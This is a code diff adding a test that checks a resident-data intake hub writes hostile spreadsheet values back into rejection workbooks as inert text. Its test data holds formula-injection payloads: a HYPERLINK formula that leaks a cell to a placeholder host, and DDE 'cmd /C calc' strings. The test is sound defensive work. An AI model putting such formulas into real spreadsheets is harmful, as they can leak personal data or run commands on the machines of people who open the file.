@@ -193,3 +193,48 @@ def test_dropped_workbook_with_one_bad_row_comes_back_marked(template: Path, tmp
     assert ws["A2"].fill.fgColor.rgb.endswith("FFC7CE")
     assert "姓名" in ws["A2"].comment.text
     assert ws["B2"].comment is None
+
+
+PAYLOADS = (
+    '=HYPERLINK("http://example.invalid/?leak="&A2,"点击核对")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+3",
+)
+HEADERS = tuple(payload.strip() for payload in PAYLOADS)  # the reader trims header cells
+
+
+def test_formula_payloads_in_headers_and_cells_come_back_as_inert_text(template: Path, tmp_path: Path) -> None:
+    """Headers and values typed as text in a dropped workbook must not become live formulas when the
+    hub writes them back in the rejection workbook."""
+    wb = openpyxl.load_workbook(template)
+    residents = wb[RESIDENTS.title]
+    first_extra = len(RESIDENTS.columns) + 1
+    for offset, payload in enumerate(PAYLOADS):
+        header = residents.cell(row=1, column=first_extra + offset, value=payload)
+        header.data_type = "s"  # typed with a leading apostrophe: text in the dropped file
+    residents.append(["", "350603195001011235", "女", "1960-05-06", "", "胜利路2号", "", "", "", *PAYLOADS])
+    for offset in range(len(PAYLOADS)):
+        residents.cell(row=2, column=first_extra + offset).data_type = "s"
+    wb.save(tmp_path / "drop.xlsx")
+    rows = read_intake_workbook(tmp_path / "drop.xlsx")
+    assert set(HEADERS) <= set(rows["residents"][0])
+    result = standardize("residents", "intake", pd.DataFrame(rows["residents"]))
+    assert set(result.quarantine["record_id"]) == {"drop:居民信息:2"}
+
+    path = write_rejection_workbook(tmp_path / "rejected.xlsx", rows, result.quarantine)
+    book = openpyxl.load_workbook(path)
+    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    ws = book[RESIDENTS.title]
+    headers = [cell.value for cell in ws[1]]
+    assert set(HEADERS) <= set(headers)
+    for header, payload in zip(HEADERS, PAYLOADS, strict=True):
+        cell = ws.cell(row=2, column=headers.index(header) + 1)
+        assert cell.value == payload and cell.data_type == "s" and cell.quotePrefix
+        assert ws.cell(row=1, column=headers.index(header) + 1).quotePrefix
+    resubmitted = read_intake_workbook(path)["residents"][0]
+    assert all(resubmitted[header] == payload for header, payload in zip(HEADERS, PAYLOADS, strict=True))
